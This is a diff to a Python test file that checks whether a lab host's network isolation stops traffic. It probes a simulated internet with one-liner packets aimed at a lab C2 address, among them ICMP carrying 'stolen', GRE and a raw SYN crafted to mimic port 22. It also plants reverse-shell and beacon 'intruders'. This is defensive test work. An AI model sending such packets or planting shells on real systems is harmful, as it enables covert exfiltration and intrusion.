@@ -9,18 +9,18 @@
 
 from __future__ import annotations
 
-import json
 import subprocess
 import sys
-from pathlib import Path
 
 import pytest
 
-from tests.lab import hosts, network
+from tests.lab import hosts, intruders, network
 from tests.lab.controller import adhoc
 from tests.lab.machine import inside
 
-OUTPUT = Path("tests/output/matrix-leaks.json")
+from . import matrix
+from .conftest import clean
+
 # Counts packets with one of the given source addresses that arrive at the internet's interface, for some seconds.
 LISTEN = """
 import ipaddress, socket, sys, time
@@ -39,6 +39,11 @@ print(count)
 TCP = "import socket; s=socket.socket(socket.{family}); s.settimeout(0.5); s.connect(('{peer}', {port}))"
 UDP = "import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'x', ('{peer}', {port}))"
 RAW = "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, {number}).sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00stolen', ('{peer}', 0))"
+RAW_SYN = """
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+s.sendto(struct.pack('!HHIIBBHHH', 22, 443, 1, 0, 0x50, 2, 1024, 0, 0), ('{peer}', 0))
+"""
 CHANNELS = {
     "tcp-ipv4": TCP.format(family="AF_INET", peer=network.C2, port=8443),
     "tcp-ipv6": TCP.format(family="AF_INET6", peer=network.C2_6, port=8443),
@@ -47,34 +52,52 @@ CHANNELS = {
     "udp-53": UDP.format(family="AF_INET", peer=network.C2, port=53),
     "icmp-with-payload": RAW.format(number=1, peer=network.C2),
     "gre": RAW.format(number=47, peer=network.C2),
+    # A first packet that looks like an answer of the responder's way in.
+    "source-port-22": RAW_SYN.format(peer=network.C2),
+    # What was there before the isolation and goes on by itself.
+    "live-tcp": "", "live-udp": "", "live-ipv6": "",
 }
+LIVE = {"live-tcp": "reverse-shell", "live-udp": "beacon-udp", "live-ipv6": "beacon-ipv6"}
 
 
-def heard(host: str, code: str) -> int:
-    """How many packets of the host reach the internet while it runs `code`."""
+def heard(host: str, name: str) -> int:
+    """How many packets of the host reach the internet while it tries a channel."""
     listener = subprocess.Popen(inside("internet", [sys.executable, "-c", LISTEN, "1.0", network.address(host), network.address6(host)]),
                                 stdout=subprocess.PIPE, text=True)
     with listener:
         assert listener.stdout is not None and listener.stdout.readline() == "ready\n"
-        hosts.execute(host, ["python3", "-c", code], check=False)
+        hosts.execute(host, ["python3", "-c", CHANNELS[name]], check=False)
         return int(listener.stdout.readline())
 
 
-@pytest.mark.parametrize("backend", ["nftables", "iptables"])
-def test_nothing_leaks(lab, backend):
+@pytest.fixture(params=matrix.cells(), ids="-".join)
+def cell(request, lab):
+    """(release, backend), with the intruders whose live traffic is to be cut."""
+    host = request.param[0]
+    clean(host)
+    yield request.param
+    clean(host)
+
+
+def test_nothing_leaks(cell):
+    host, backend = cell
+    quiet = [name for name in CHANNELS if name not in LIVE]
+    before = {name: heard(host, name) for name in quiet}
+    for name, intruder in LIVE.items():
+        intruders.plant(host, intruder)
+        before[name] = heard(host, name)
+        intruders.unplant(host, intruder)  # each channel must be heard alone
+    assert all(before.values()), f"a channel is shut before the isolation: {before}"
+    for intruder in LIVE.values():
+        intruders.plant(host, intruder)
+    assert adhoc(host, "isolation", f"case=LEAKS backend={backend}").of(host)["verdict"] == "contained"
     rows = []
-    for host in hosts.HOSTS:
-        before = {name: heard(host, code) for name, code in CHANNELS.items()}
-        assert all(before.values()), f"a channel is shut before the isolation: {before}"
-        assert adhoc(host, "isolation", f"case=LEAKS backend={backend}").of(host)["verdict"] == "contained"
-        try:
-            for name, code in CHANNELS.items():
-                count = heard(host, code)
-                rows.append({"case": name, "release": host, "backend": backend, "expected": 0, "got": count, "holds": count == 0})
-        finally:
-            released = adhoc(host, "isolation", "case=LEAKS state=released").of(host)
-        assert released["verdict"] == "released", released["reasons"]
-    OUTPUT.parent.mkdir(parents=True, exist_ok=True)
-    kept = json.loads(OUTPUT.read_text(encoding="utf-8")) if OUTPUT.exists() else []
-    OUTPUT.write_text(json.dumps([row for row in kept if row["backend"] != backend] + rows, indent=1) + "\n", encoding="utf-8")
+    try:
+        for name in CHANNELS:
+            count = heard(host, name)
+            rows.append({"case": name, "release": host, "backend": backend, "expected": 0, "got": count, "holds": count == 0})
+    finally:
+        released = adhoc(host, "isolation", "case=LEAKS state=released").of(host)
+    matrix.write("leaks", rows)
+    assert released["verdict"] == "released", released["reasons"]
     assert [row for row in rows if not row["holds"]] == []
